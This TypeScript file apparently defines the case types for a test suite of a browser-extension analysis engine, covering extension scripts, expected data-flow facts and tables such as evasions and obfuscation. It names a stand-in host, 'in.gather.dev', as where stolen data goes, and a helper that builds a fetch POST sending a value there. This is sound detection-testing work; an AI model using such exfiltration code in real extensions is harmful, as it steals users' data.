import type { FlowDirection, SinkKind, SourceKind } from '../../packages/engine/src/vocabulary.ts';
import type { Transformation } from './transformations/transformation.ts';

/** A small extension, written as the scripts of its contexts. */
export interface Program {
  /** The service worker, `worker.js`. */
  readonly worker?: string;
  /** Content scripts of one entry by name, in the order in which they are loaded. */
  readonly content?: Readonly<Record<string, string>>;
  /** Extension pages by name, each with its scripts by name in order. */
  readonly pages?: Readonly<Record<string, Readonly<Record<string, string>>>>;
  /** Scripts that others import. */
  readonly others?: Readonly<Record<string, string>>;
  /** Whether the service worker is a module. */
  readonly isModule?: boolean;
  /** Keys of the manifest beside those that the scripts ask for, or in their place. */
  readonly manifest?: object;
}

/** What a report says of an extension that does it. */
export type Fact =
  | {
      readonly kind: 'flow';
      readonly source: SourceKind;
      readonly sink: SinkKind;
      /** Of a network sink. */
      readonly host?: string;
      readonly direction?: FlowDirection;
    }
  /** A script element that loads a script of this host. */
  | { readonly kind: 'remote-script'; readonly host: string }
  /** One of these findings, and more than a guess. */
  | { readonly kind: 'finding'; readonly ids: readonly string[] }
  /** That something which can run was not read. */
  | { readonly kind: 'incomplete' };

/** One extension of a table, with the fact that the table asks for. */
export interface Case {
  readonly table: Table;
  readonly row: string;
  readonly column: string;
  readonly program: Program;
  readonly fact: Fact;
  /** Whether the extension does it; a twin holds all that does it, and sends, calls or uses something else. */
  readonly isTrue: boolean;
  /** By which all scripts of the program are written through before anybody reads them. */
  readonly transformation?: Transformation;
}

export const tables = [
  'forms',
  'helpers',
  'evasions',
  'joins',
  'facts',
  'obfuscation',
  'compiled',
  'libraries',
] as const;
export type Table = (typeof tables)[number];

/** The host that all stolen data goes to. */
export const thief = 'in.gather.dev';

export function flow(source: SourceKind, sink: SinkKind = 'network'): Fact {
  return { kind: 'flow', source, sink, ...(sink === 'network' && { host: thief }) };
}

export function finding(...ids: readonly string[]): Fact {
  return { kind: 'finding', ids };
}

/** Code that posts the value of an expression. */
export function post(value: string, host = thief): string {
  return `fetch('https://${host}/a', { method: 'POST', body: JSON.stringify(${value}) })`;
}
